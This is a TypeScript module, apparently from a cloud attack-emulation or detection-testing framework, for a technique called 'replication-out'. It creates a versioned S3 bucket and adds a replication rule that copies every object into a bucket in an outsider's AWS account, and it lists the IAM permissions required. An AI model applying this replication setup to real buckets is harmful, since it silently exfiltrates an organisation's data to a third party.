import type { Technique } from '../technique.ts';

/** Every object that comes into a bucket of the company is copied to a bucket of somebody else. */
export const technique: Technique = {
  id: 'replication-out',
  place: 'home',
  makes: [],
  changes: ['AWS::S3::Bucket'],
  needs: ['s3:PutReplicationConfiguration', 's3:PutBucketReplication', 'iam:PassRole'],
  async before(act) {
    const name = act.name(['documents', 'contracts', 'uploads']);
    const elsewhere = act.region === 'us-east-1' ? {} : { CreateBucketConfiguration: { LocationConstraint: act.region } };
    await act.call('s3', 'CreateBucket', { Bucket: name, ...elsewhere });
    await act.call('s3', 'PutBucketVersioning', { Bucket: name, VersioningConfiguration: { Status: 'Enabled' } });
    act.kept.name = name;
  },
  async play(act) {
    await act.call('s3', 'PutBucketReplication', {
      Bucket: act.kept.name,
      ReplicationConfiguration: {
        Role: act.company.serviceRoleArn,
        Rules: [
          {
            ID: 'copy',
            Priority: 1,
            Status: 'Enabled',
            Filter: { Prefix: '' },
            DeleteMarkerReplication: { Status: 'Disabled' },
            Destination: { Bucket: `arn:aws:s3:::${act.draw.hex(8)}-store`, Account: act.company.outsider },
          },
        ],
      },
    });
    act.changed('AWS::S3::Bucket', act.kept.name!, `arn:aws:s3:::${act.kept.name}`, `replicated to account ${act.company.outsider}`);
  },
};
